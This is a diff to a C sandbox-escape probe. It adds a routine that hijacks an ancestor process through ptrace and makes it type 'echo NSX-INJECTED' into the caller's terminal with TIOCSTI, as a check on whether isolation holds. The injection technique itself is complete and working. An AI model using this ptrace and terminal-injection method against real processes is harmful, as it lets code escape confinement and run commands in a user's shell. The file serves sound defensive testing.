@@ -3,7 +3,8 @@
  * Tries what a hostile payload did in the review of issue 12 against every process above it
  * that it can see (PID 1 — the reaper —, its parent and every ancestor up to the top of its PID
  * namespace — the launcher when there is no new one):
- *   - PTRACE_SEIZE (the door to making the process run ioctl(TIOCSPGRP)/ioctl(TIOCSTI));
+ *   - PTRACE_SEIZE and, when that works, making the process call ioctl(0, TIOCSTI) byte by byte
+ *     with "echo NSX-INJECTED" and a newline (the review's line ran in the caller's shell);
  *   - reading the entries of /proc/PID/fd (and opening each entry: the caller's terminal, an
  * inherited directory from outside the new root) and /proc/PID/root;
  *   - TIOCSTI on every terminal it holds or can open (its own fds, /dev/tty, the fds above),
@@ -24,6 +25,9 @@
 #include <sys/ioctl.h>
 #include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
+#include <sys/wait.h>
 #include <termios.h>
 #include <unistd.h>
 
@@ -81,6 +85,55 @@ static void tryTerminal(int fd, const char* where)
         escape("tiocsti %s fd=%ld%s", where, fd, "");
 }
 
+/* What the review did once PTRACE_SEIZE worked: make the process call ioctl(0, TIOCSTI, &c) for
+ * each byte of a command line. Its fd 0 was the caller's terminal, and its controlling terminal,
+ * so the line landed in the caller's shell. x86-64: the process sits in a system call (sigwait,
+ * poll), so the two bytes before its instruction pointer are a `syscall` to reuse. Returns the
+ * number of bytes the kernel took. */
+static int injectLine(pid_t pid, const char* line)
+{
+#if defined(__x86_64__)
+    int status;
+    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &status, __WALL) != pid)
+        return 0;
+    struct user_regs_struct saved, regs;
+    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) != 0)
+        return 0;
+    errno = 0;
+    const long text = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
+    if (errno || (text & 0xffff) != 0x050f)
+        return 0;
+    const unsigned long long scratch = (saved.rsp - 1024) & ~7ULL; /* below the red zone */
+    const long keep = ptrace(PTRACE_PEEKDATA, pid, scratch, 0);
+    int taken = 0;
+    for (const char* c = line; *c; ++c) {
+        if (ptrace(PTRACE_POKEDATA, pid, scratch, (long)(unsigned char)*c) != 0)
+            break;
+        regs = saved;
+        regs.rip = saved.rip - 2;
+        regs.orig_rax = (unsigned long long)-1; /* no restart of the interrupted call */
+        regs.rax = SYS_ioctl;
+        regs.rdi = 0;
+        regs.rsi = TIOCSTI;
+        regs.rdx = scratch;
+        if (ptrace(PTRACE_SETREGS, pid, 0, &regs) != 0 ||
+            ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0 || waitpid(pid, &status, __WALL) != pid ||
+            ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0)
+            break;
+        if (regs.rax == 0)
+            ++taken;
+    }
+    ptrace(PTRACE_POKEDATA, pid, scratch, keep);
+    ptrace(PTRACE_SETREGS, pid, 0, &saved);
+    ptrace(PTRACE_DETACH, pid, 0, 0);
+    return taken;
+#else
+    (void)pid;
+    (void)line;
+    return 0;
+#endif
+}
+
 static void probeProcess(pid_t pid)
 {
     char path[128], target[PATH_MAX], comm[64] = "?";
@@ -91,8 +144,18 @@ static void probeProcess(pid_t pid)
             comm[strcspn(comm, "\n")] = 0;
         fclose(f);
     }
-    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
+    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
         escape("ptrace-seize %s pid=%ld%s", comm, pid, "");
+        /* The marker is assembled here so that it appears nowhere unless typed. */
+        char line[64];
+        snprintf(line, sizeof line, "echo NSX%s%s\n", "-INJ", "ECTED");
+        const int taken = injectLine(pid, line);
+        if (taken > 0) {
+            char what[32];
+            snprintf(what, sizeof what, "%d bytes", taken);
+            escape("tiocsti-through %s pid=%ld %s", comm, pid, what);
+        }
+    }
     snprintf(path, sizeof path, "/proc/%d/fd", (int)pid);
     DIR* d = opendir(path);
     if (d) {
